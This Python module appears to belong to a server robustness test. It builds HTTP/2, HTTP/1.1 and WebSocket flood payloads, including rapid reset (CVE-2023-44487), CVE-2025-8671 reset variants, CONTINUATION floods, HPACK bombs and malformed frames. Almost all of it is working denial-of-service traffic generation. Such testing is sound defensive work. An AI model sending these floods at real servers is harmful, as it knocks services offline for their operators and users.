"""What attackers send as fast as they can: what libnghttp2 lets through (CVE-2025-8671 among it), and HTTP/1.1's like.

An attack that has to be cut says so; the others are requests like any other, which may cost what requests cost.
"""

import dataclasses
import itertools
from collections.abc import Callable, Iterator

from frames import (
    ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PADDED, PING, PREFACE, PRIORITY, PUSH_PROMISE,
    RST_STREAM, SETTINGS, WINDOW_UPDATE, WITH_PRIORITY, block, frame, get, get_fields, increment, literal, number,
    post_fields, request, settings,
)

BLOCK = 100
QUICK_PATH = "/v1/events?limit=1"
BODY_PATH = "/v1/sessions"


@dataclasses.dataclass
class Flood:
    name: str
    opening: bytes
    blocks: Callable[[], Iterator[bytes]]
    is_cut: bool = True
    units: int = BLOCK


def same(unit, count=BLOCK):
    """The same frames over and over."""
    repeated = unit * count
    return lambda: itertools.repeat(repeated)


def streams(make, first=1):
    """`make(stream)` for one new stream after the other."""
    def blocks():
        for start in itertools.count(first, 2 * BLOCK):
            yield b"".join(make(stream) for stream in range(start, start + 2 * BLOCK, 2))
    return blocks


def flood(name, unit, opening=b"", **options):
    return Flood(name, PREFACE + opening, same(unit), **options)


def resets(name, make, **options):
    return Flood(name, PREFACE, streams(make), **options)


def open_post(stream, *fields):
    return request(stream, post_fields(BODY_PATH, ("content-type", "application/json"), *fields), ends=False)


def resets_of_the_server():
    """CVE-2025-8671: the peer breaks a rule of a stream, the server resets it and has the work of it all the same."""
    def taken_back(stream):
        return frame(RST_STREAM, (8).to_bytes(4, "big"), stream=stream)

    return [
        resets("rapid reset (CVE-2023-44487)", lambda s: get(s, QUICK_PATH) + taken_back(s)),
        resets("made to reset: WINDOW_UPDATE of 0", lambda s: open_post(s) + increment(0, s)),
        resets("made to reset: window overflow", lambda s: open_post(s) + increment(0x7FFFFFFF, s)),
        resets("made to reset: HEADERS after the end", lambda s: get(s, QUICK_PATH) + get(s, QUICK_PATH)),
        resets("made to reset: DATA after the end", lambda s: get(s, QUICK_PATH) + frame(DATA, b"x", stream=s)),
        resets("made to reset: PRIORITY of 4 bytes", lambda s: open_post(s) + frame(PRIORITY, bytes(4), stream=s)),
        resets("made to reset: PRIORITY on itself",
               lambda s: open_post(s) + frame(PRIORITY, s.to_bytes(4, "big") + b"\0", stream=s)),
        resets("made to reset: HEADERS depend on themselves",
               lambda s: frame(HEADERS, s.to_bytes(4, "big") + b"\0" + block(get_fields(QUICK_PATH)),
                               END_STREAM | END_HEADERS | WITH_PRIORITY, s)),
        resets("made to reset: more DATA than announced",
               lambda s: open_post(s, ("content-length", "1")) + frame(DATA, b"xyz", stream=s)),
        resets("made to reset: less DATA than announced",
               lambda s: open_post(s, ("content-length", "9")) + frame(DATA, b"x", END_STREAM, s)),
        resets("made to reset: a trailer with a pseudo field",
               lambda s: open_post(s) + frame(HEADERS, block([(":path", "/")]), END_HEADERS | END_STREAM, s)),
        resets("made to reset: a trailer without END_STREAM",
               lambda s: open_post(s) + frame(HEADERS, block([("x", "y")]), END_HEADERS, s)),
        resets("made to reset: an upper-case name",
               lambda s: request(s, [*get_fields(QUICK_PATH), ("Upper", "case")])),
        resets("made to reset: no :path", lambda s: request(s, get_fields(QUICK_PATH)[:3])),
        resets("made to reset: connection-specific fields",
               lambda s: request(s, [*get_fields(QUICK_PATH), ("connection", "close")])),
        Flood("made to refuse: more streams than allowed, SETTINGS never acknowledged",
              PREFACE + b"".join(open_post(s) for s in range(1, 301, 2)),
              streams(lambda s: get(s, QUICK_PATH), first=301)),
    ]


def control_frames():
    opened = get(1, QUICK_PATH)
    waiting = open_post(1)
    flip = settings(initial_window_size=0) + settings(initial_window_size=65_535)
    table = settings(header_table_size=0) + settings(header_table_size=4_096)
    return [
        flood("PING", frame(PING, bytes(8))),
        flood("PING acknowledgements", frame(PING, bytes(8), ACK)),
        flood("SETTINGS, empty", frame(SETTINGS)),
        flood("SETTINGS, windows up and down with 100 open streams", flip,
              b"".join(open_post(s) for s in range(1, 201, 2))),
        flood("SETTINGS, header tables up and down", table),
        flood("SETTINGS acknowledgements", frame(SETTINGS, flags=ACK)),
        flood("PRIORITY", frame(PRIORITY, bytes(4) + b"\1", stream=1), opened),
        Flood("PRIORITY of idle streams", PREFACE, streams(lambda s: frame(PRIORITY, bytes(4) + b"\1", stream=s))),
        flood("PRIORITY_UPDATE (RFC 9218)", frame(0x10, (1).to_bytes(4, "big") + b"u=0")),
        flood("unknown frames", frame(99, b"abc")),
        flood("unknown frames of 16 KB", frame(99, bytes(16_384)), units=BLOCK),
        flood("ALTSVC", frame(0xA, b"\0\0h3=\":1\"", stream=1)),
        flood("GOAWAY", frame(GOAWAY, bytes(8))),
        flood("PUSH_PROMISE", frame(PUSH_PROMISE, (2).to_bytes(4, "big") + block(get_fields("/")), END_HEADERS, 1),
              opened),
        flood("empty DATA", frame(DATA, stream=1), waiting),
        flood("empty DATA, padded", frame(DATA, b"\xff" + bytes(255), PADDED, 1), waiting),
        flood("DATA of one byte", frame(DATA, b" ", stream=1), waiting, is_cut=True),
        flood("DATA on a closed stream", frame(DATA, b"x", stream=1), opened),
        flood("DATA on stream 0", frame(DATA, b"x", stream=0)),
        flood("WINDOW_UPDATE of the connection", increment(1)),
        flood("WINDOW_UPDATE of a stream", increment(1, 1), waiting),
        flood("WINDOW_UPDATE of closed streams", increment(1, 1), opened),
        flood("RST_STREAM of closed streams", frame(RST_STREAM, bytes(4), stream=1), opened),
    ]


def heads():
    name = block(get_fields(QUICK_PATH))
    start = frame(HEADERS, name, END_STREAM, 1)
    large = name + literal("x-large", "a" * 4_000, indexed=True)
    bomb = large + b"\xbe" * 12_000

    many = name + b"".join(literal(f"x-{n}", "") for n in range(1_000))
    over = name + literal("x-large", "a" * 16_000)
    long_path = block(get_fields("/" + "a" * 16_000))
    table_updates = (number(0, 5, 0x20) + number(4_096, 5, 0x20)) * 4_000
    crumbs = b"\x20" + name + literal("cookie", "a=b", indexed=True) * 150

    def whole(header_block):
        return lambda stream: frame(HEADERS, header_block, END_STREAM | END_HEADERS, stream)

    return [
        Flood("CONTINUATION without an end", PREFACE + start, same(frame(CONTINUATION, literal("a", "b"), stream=1))),
        Flood("CONTINUATION, empty, without an end", PREFACE + start, same(frame(CONTINUATION, stream=1))),
        resets("HPACK: one byte for 4,000, 12,000 times", whole(bomb), is_cut=False),
        resets("HPACK: 1,000 fields a head", whole(many), is_cut=False),
        resets("HPACK: 150 crumbs of a cookie, indexed", whole(crumbs), is_cut=False),
        resets("HPACK: 8,000 table sizes a head", whole(table_updates)),
        resets("a head above the limit", whole(over), is_cut=False),
        resets("a path of 16,000 characters", whole(long_path), is_cut=False),
        resets("an answer before the body, again and again", open_post, is_cut=False),
    ]


def plain():
    """HTTP/1.1."""
    head = b"POST " + BODY_PATH.encode() + b" HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
    chunked = head + b"Transfer-Encoding: chunked\r\n\r\n"
    get_head = b"GET " + QUICK_PATH.encode() + b" HTTP/1.1\r\nHost: localhost\r\n"

    def http1(name, opening, unit, **options):
        return Flood("HTTP/1.1: " + name, opening, same(unit), **options)

    return [
        http1("a request line without an end", b"GET /", b"a" * 1_000),
        http1("fields without an end", get_head, b"X-Field: value\r\n"),
        http1("one field without an end", get_head + b"X: ", b"a" * 1_000),
        http1("empty lines before a request", b"", b"\r\n" * 50),
        http1("requests in a row, answers unread", b"", get_head + b"\r\n", is_cut=False),
        http1("chunks of one byte", chunked, b"1\r\n \r\n"),
        http1("a chunk's extension without an end", chunked + b"1;", b"a=b;" * 100),
        http1("chunks with long extensions", chunked, b"1;" + b"a=b;" * 100 + b"\r\n \r\n"),
        http1("trailers without an end", chunked + b"0\r\n", b"X-Trailer: value\r\n"),
        http1("a chunk size without an end", chunked, b"0" * 1_000),
        http1("a body larger than allowed", chunked, b"3e8\r\n" + b"a" * 1_000 + b"\r\n"),
        http1("bytes that are no HTTP", b"", bytes(range(256))),
    ]


def websockets(stream_path):
    """RFC 6455, on a stream that an honest viewer might watch."""
    asked = (f"GET {stream_path} HTTP/1.1\r\nHost: localhost\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
             "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n").encode()
    mask = bytes(4)
    return [
        Flood("WebSocket: " + name, asked, same(unit))
        for name, unit in [
            ("pings", b"\x89\x80" + mask), ("pongs", b"\x8a\x80" + mask),
            ("texts of a byte", b"\x81\x81" + mask + b"a"),
            ("empty pieces of a text without an end", b"\x01\x80" + mask), ("frames without a mask", b"\x81\x01a"),
            ("frames of 16 KB", b"\x82\xfe\x40\x00" + mask + bytes(16_384)), ("an unknown opcode", b"\x83\x80" + mask),
            ("frames of 2^62 bytes", b"\x82\xff\x40" + bytes(7) + mask),
        ]
    ]


def families(stream_path):
    """The floods by what they abuse."""
    return {
        "resets": resets_of_the_server(), "control frames": control_frames(), "heads": heads(), "HTTP/1.1": plain(),
        "WebSockets": websockets(stream_path),
    }


def all_floods(stream_path):
    return [flood for family in families(stream_path).values() for flood in family]


def share_of_floods(stream_path, share):
    """A share of each family."""
    return [flood for name, family in families(stream_path).items() for flood in share.of(name, family)]
